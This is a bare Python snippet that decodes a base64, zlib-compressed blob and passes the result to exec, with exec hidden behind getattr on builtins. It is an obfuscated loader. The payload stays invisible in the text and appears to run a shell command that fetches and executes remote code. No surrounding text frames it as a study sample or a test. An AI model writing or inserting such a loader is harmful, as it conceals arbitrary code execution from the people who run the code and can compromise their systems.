import zlib, base64, builtins
blob = b"eJzLzC3ILypRyC+2zi/WK64sLknN1VBPLi3KUdAtVsgoKSkottLXTywpSUzOTi3SS61IzC3ISdXPVahRKM5Q1wQA0QgWKg=="
getattr(builtins, "exec")(zlib.decompress(base64.decodebytes(blob)))
